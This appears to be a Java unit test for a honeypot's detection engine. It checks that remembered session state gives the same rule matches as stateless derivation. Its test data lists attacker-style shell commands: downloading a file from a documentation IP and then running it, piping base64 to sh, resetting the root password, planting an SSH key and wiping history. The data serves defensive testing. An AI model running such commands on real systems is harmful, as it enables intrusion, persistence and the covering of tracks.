package org.decnet.engine.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.decnet.attack.AttackCatalog;
import org.decnet.attack.AttackCatalogs;
import org.decnet.engine.derive.Derived;
import org.decnet.engine.derive.SessionMemory;
import org.decnet.engine.derive.StatementDeriver;
import org.decnet.engine.tag.ActiveRules;
import org.decnet.engine.tag.RulePack;
import org.decnet.engine.tag.RulePackLoader;
import org.decnet.engine.tag.RuleSource;
import org.decnet.engine.tag.Tagger;
import org.decnet.engine.tag.Tagging;
import org.decnet.engine.tag.TaggingListener;
import org.decnet.model.event.Event;
import org.decnet.model.event.EventIds;
import org.decnet.model.event.EventKind;
import org.decnet.model.event.Field;
import org.junit.jupiter.api.Test;

/** What is remembered of lines and of what rules found in them shows in nothing but time. */
class RememberedLinesProperties {
  private static final int COMMANDS = 4000;
  private static final AttackCatalog ATTACK = new AttackCatalogs().load();
  private static final Instant START = Instant.parse("2026-01-02T03:04:05Z");

  /** Rules that read what lines inherit, so that equal lines do not match equally. */
  private static final String PARTICULAR =
      """
      title: %1$s
      id: 6c1f3c6e-0000-5000-8000-00000000900%1$s
      name: R900%1$s
      level: low
      logsource: { %2$s }
      detection:
        sel: { %3$s }
        condition: sel
      decnet:
        version: 1
        emits: [{ tactic: TA0007, technique: T1033, confidence: 0.7 }]
        evidence: [command_text]
      """;

  private static final String PROCESS = "category: process_creation, product: linux";

  private static final String[] LINES = {
    "cd /tmp || cd /var/run",
    "cd /tmp; wget http://203.0.113.20/a -O b; chmod 777 b; ./b",
    "wget http://203.0.113.20/a -O b",
    "curl -o c http://203.0.113.20/c",
    "chmod 777 *",
    "chmod +x b",
    "./b",
    "./b &",
    "sh c",
    "rm -rf b",
    "mv b c",
    "cp /bin/busybox c; ./c",
    "su kim",
    "sudo -i",
    "exit",
    "uname -a; cat /proc/cpuinfo",
    "echo root:secret9 | chpasswd",
    "echo aWQ= | base64 -d | sh",
    "echo x > e; sh e",
    "cat e >> f",
    "tar xf b",
    "whoami",
    "enable",
    "ssh-keygen; echo key >> .ssh/authorized_keys",
    "crontab -l",
    "/system identity print",
    "history -c; rm -f ~/.bash_history",
    "HISTFILE=/dev/null",
    ")(",
    ""
  };

  @Test
  void bundledRulesFindTheSameInRememberedLines() {
    check(ActiveRules.of(PackFiles.load().pack()), 7);
  }

  @Test
  void rulesAboutWhoTypesFindTheSameInRememberedLines() {
    List<String> rules =
        List.of(
            PARTICULAR.formatted(1, PROCESS, "src_ip: 198.51.100.1"),
            PARTICULAR.formatted(2, PROCESS, "session_id|endswith: '2'"),
            PARTICULAR.formatted(3, PROCESS, "decky: web-1, arg0: whoami"),
            PARTICULAR.formatted(4, "category: file_event, product: linux", "dst_port: 22"),
            PARTICULAR.formatted(5, "category: command, product: decnet", "found: true"),
            PARTICULAR.formatted(6, "category: command, product: decnet", "src_port|gt: 1002"),
            PARTICULAR.formatted(
                7, "category: command, product: decnet, service: telnet", "command_text|re: '.'"),
            PARTICULAR.formatted(8, PROCESS, "event_id|startswith: ['1', '2', '3', '4']"),
            PARTICULAR.formatted(9, PROCESS, "image_made_executable: true"));
    for (int i = 0; i < rules.size(); i++) { // alone, so that one does not make up for another
      check(ActiveRules.of(pack(rules.subList(i, i + 1))), i);
    }
    check(ActiveRules.of(pack(rules)), 99);
  }

  private static RulePack pack(List<String> rules) {
    List<RuleSource> sources = new ArrayList<>();
    for (String rule : rules) {
      sources.add(new RuleSource(sources.size() + ".yml", rule, RuleSource.Origin.CUSTOM));
    }
    RulePackLoader.Loaded loaded = new RulePackLoader(ATTACK).load(sources);
    assertThat(loaded.problems()).isEmpty();
    return loaded.pack();
  }

  private static void check(ActiveRules rules, int seed) {
    SessionMemory remembering = new SessionMemory(StatementDeriver.remembering(40));
    SessionMemory forgetting = new SessionMemory(new StatementDeriver());
    Tagger tagger = new Tagger(() -> rules, ATTACK, TaggingListener.SILENT);
    Random random = new Random(seed);
    int remembered = 0;
    int tags = 0;
    for (int i = 0; i < COMMANDS; i++) {
      Event command = command(i, random);
      Derived quick = remembering.derive(command);
      Derived slow = forgetting.derive(command);
      Tagging found = tagger.look(quick);

      assertThat(quick).isEqualTo(slow);
      assertThat(found.tagged()).isEqualTo(tagger.look(slow).tagged());
      assertThat(found.hits()).isEqualTo(tagger.look(slow).hits());
      remembered += quick.remembered() ? 1 : 0;
      tags += found.tagged().tags().size();
    }
    assertThat(remembered).isGreaterThan(COMMANDS / 2);
    assertThat(tags).isGreaterThan(COMMANDS / 100);
  }

  private static Event command(int number, Random random) {
    boolean told = random.nextInt(3) == 0;
    String line = LINES[random.nextInt(LINES.length)];
    return Event.builder(EventKind.COMMAND)
        .id(EventIds.ofRecord("web-1", "test", Integer.toString(number)))
        .time(START.plusSeconds(number))
        .set(Field.SENSOR, "web-1")
        .set(Field.SOURCE, "test")
        .set(Field.DECKY, "web-" + random.nextInt(2))
        .set(Field.SERVICE, random.nextBoolean() ? "ssh" : "telnet")
        .set(Field.SRC_IP, random.nextInt(9) == 0 ? null : "198.51.100." + random.nextInt(3))
        .set(Field.SRC_PORT, 1000L + random.nextInt(5))
        .set(Field.DST_PORT, random.nextBoolean() ? 22L : 23L)
        .set(Field.SESSION_ID, "s:" + random.nextInt(6))
        .set(Field.SYNTHETIC, random.nextInt(20) == 0 ? true : null)
        .set(Field.USER, told ? (random.nextBoolean() ? "root" : "lee") : null)
        .set(Field.PWD, told && random.nextBoolean() ? "/home/lee" : null)
        .set(Field.UID, random.nextBoolean() ? "0" : null)
        .set(Field.FOUND, random.nextBoolean())
        .set(Field.PROMPT_TEXT, random.nextInt(20) == 0 ? true : null)
        .set(Field.EVENT_CLASS, random.nextInt(20) == 0 ? "noise" : null)
        .set(Field.COMMAND_TEXT, line)
        .build();
  }
}
